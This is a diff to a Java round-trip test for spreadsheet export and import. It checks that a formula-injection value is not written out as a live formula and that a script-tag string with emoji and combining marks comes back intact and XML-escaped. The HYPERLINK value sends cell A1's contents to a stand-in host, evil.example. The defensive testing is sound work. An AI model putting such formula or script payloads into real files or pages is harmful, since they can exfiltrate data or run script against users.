@@ -110,6 +110,8 @@ class SheetRoundTripTest {
         String evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
         tp.setName(evil);
         touchpoint(model, "tp-reviews").setName("-20% on weekdays");
+        String markup = "<script>alert('x')</script> & \"quotes\" ]]> \uD83D\uDE9A \u05E9\u05DC\u05D5\u05DD e\u0301";
+        touchpoint(model, "tp-moving-guide").setDescription(markup);
         Path csv = dir.resolve("tp.csv");
         SheetExport.write(model, csv, Table.TOUCHPOINTS);
         String text = Files.readString(csv, StandardCharsets.UTF_8);
@@ -124,7 +126,11 @@ class SheetRoundTripTest {
                 row.stream().filter(c -> c != null).forEach(c -> assertTrue(c.getType() != CellType.FORMULA, c.toString()));
             }
         }
-        assertEquals(List.of(), SheetImport.plan(model, xlsx).edits());
+        assertEquals(List.of(), SheetImport.plan(model, xlsx).edits(), "markup, emoji and marks survive the workbook");
+        try (ReadableWorkbook wb = new ReadableWorkbook(xlsx.toFile())) {
+            assertTrue(wb.findSheet("Touchpoints").get().read().stream()
+                    .anyMatch(row -> markup.equals(row.getCellText(4))), "the workbook holds the text, escaped as XML");
+        }
     }
 
     @Test
